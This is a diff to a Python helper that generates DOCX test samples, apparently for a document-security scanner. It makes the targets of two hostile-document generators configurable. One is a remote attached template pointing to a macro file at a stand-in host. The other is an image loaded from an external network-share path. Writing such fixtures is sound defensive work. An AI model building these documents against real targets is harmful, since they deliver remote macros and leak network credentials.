@@ -137,14 +137,13 @@ def _document(body: str, namespaces: str = "") -> str:
     )
 
 
-def docx_external_template() -> bytes:
+def docx_external_template(target: str = "http://templates.example/macro.dotm") -> bytes:
     settings = f'<?xml version="1.0" encoding="UTF-8"?><w:settings {_W} xmlns:r="{_R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
     return docx(
         extra={
             "word/settings.xml": settings,
             "word/_rels/settings.xml.rels": _rels(
-                f'<Relationship Id="rId1" Type="{_R}/attachedTemplate" '
-                'Target="http://templates.example/macro.dotm" TargetMode="External"/>'
+                f'<Relationship Id="rId1" Type="{_R}/attachedTemplate" Target="{target}" TargetMode="External"/>'
             ),
         }
     )
@@ -176,7 +175,7 @@ def docx_mhtml_ole_link() -> bytes:
     return _replace_document(docx(), _document(body, ns), _rels(rel))
 
 
-def docx_network_share_image() -> bytes:
+def docx_network_share_image(target: str = "file://fileserver.example/share/track.png") -> bytes:
     body = (
         '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="p"/>'
         '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
@@ -189,7 +188,7 @@ def docx_network_share_image() -> bytes:
         'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
         'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
     )
-    rel = f'<Relationship Id="rId7" Type="{_R}/image" Target="file://fileserver.example/share/track.png" TargetMode="External"/>'
+    rel = f'<Relationship Id="rId7" Type="{_R}/image" Target="{target}" TargetMode="External"/>'
     return _replace_document(docx(), _document(body, ns), _rels(rel))
 
 
